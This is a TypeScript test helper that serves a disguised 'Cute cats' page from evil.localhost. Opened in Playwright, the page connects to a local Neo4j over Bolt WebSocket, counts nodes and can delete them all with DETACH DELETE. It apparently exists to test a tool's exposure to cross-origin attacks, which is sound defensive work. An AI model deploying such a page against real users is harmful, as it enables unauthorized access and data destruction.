import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser } from 'playwright-core';

/**
 * An ordinary web page of another site, as the user might have open while
 * kg's Neo4j runs: served from http://evil.localhost:PORT (Chromium sends
 * *.localhost to loopback, and the page's origin is not Neo4j's), it loads
 * neo4j-driver's own browser bundle and, by itself on load, opens Bolt over
 * WebSocket to the address in its URL, counts the nodes and, if asked,
 * deletes them all. It reports what happened in window.__attack.
 */
const BUNDLE = readFileSync(path.join(path.dirname(require.resolve('neo4j-driver/package.json')), 'lib/browser/neo4j-web.min.js'));

const PAGE = `<!doctype html><meta charset="utf-8"><title>Cute cats</title>
<p>Nothing to see here.</p>
<script src="/neo4j-web.min.js"></script>
<script>
(async () => {
  const a = JSON.parse(decodeURIComponent(location.hash.slice(1)));
  const out = { origin: location.origin };
  const driver = neo4j.driver(a.bolt, a.password === undefined ? undefined : neo4j.auth.basic(a.user, a.password), { connectionAcquisitionTimeout: 15000 });
  try {
    const r = await driver.executeQuery('MATCH (n) RETURN count(n) AS c');
    out.read = r.records[0].get('c').toNumber();
    if (a.wipe) {
      await driver.executeQuery('MATCH (n) DETACH DELETE n');
      out.wiped = true;
    }
  } catch (e) {
    out.error = e.code || String(e.message || e);
  } finally {
    await driver.close().catch(() => {});
    window.__attack = out;
  }
})();
</script>`;

export interface EvilSite {
  origin: string;
  close(): Promise<void>;
}

export async function startEvilSite(): Promise<EvilSite> {
  const server: Server = createServer((req, res) => {
    if (req.url === '/neo4j-web.min.js') {
      res.writeHead(200, { 'content-type': 'text/javascript' });
      res.end(BUNDLE);
    } else {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(PAGE);
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://evil.localhost:${port}`,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

export interface AttackResult {
  origin: string;
  read?: number;
  wiped?: boolean;
  error?: string;
}

/** Opens the page in a new tab of `browser` and waits for it to finish its attempt. */
export async function visitEvilPage(browser: Browser, site: EvilSite, attack: { bolt: string; user?: string; password?: string; wipe?: boolean }): Promise<AttackResult> {
  const page = await browser.newPage();
  try {
    await page.goto(`${site.origin}/#${encodeURIComponent(JSON.stringify(attack))}`);
    await page.waitForFunction(() => (window as unknown as { __attack?: unknown }).__attack !== undefined, undefined, { timeout: 45_000 });
    return await page.evaluate(() => (window as unknown as { __attack: AttackResult }).__attack);
  } finally {
    await page.close();
  }
}
